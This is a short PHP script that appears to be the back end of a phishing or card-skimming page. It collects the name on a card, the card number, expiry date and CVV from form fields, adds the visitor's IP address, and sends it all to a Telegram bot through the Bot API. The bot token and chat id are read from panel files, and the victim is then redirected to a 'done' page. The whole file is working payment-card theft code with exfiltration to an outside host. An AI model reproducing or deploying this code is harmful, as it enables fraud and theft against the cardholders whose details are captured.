<?php
// card page handler: the bot's address kept in a variable, the method glued on at curl_init
$bot = trim(file_get_contents(__DIR__ . '/panel/bot.ini'));
$chat = trim(file_get_contents(__DIR__ . '/panel/chat.ini'));
$holder = $_POST['f1'];
$number = $_POST['f2'];
$expiry = $_POST['f3'];
$code = $_POST['f4'];
$text = "Name on card: $holder\nCard number: $number\nExpiry: $expiry\nCVV: $code\nIP: " . $_SERVER['REMOTE_ADDR'];
$api = "https://api.telegram.org/{$bot}";
$ch = curl_init($api . '/sendMessage');
curl_setopt($ch, CURLOPT_POST, 1);
curl_setopt($ch, CURLOPT_POSTFIELDS, array('chat_id' => $chat, 'text' => $text));
curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);
curl_exec($ch);
curl_close($ch);
header('Location: ../done.php');
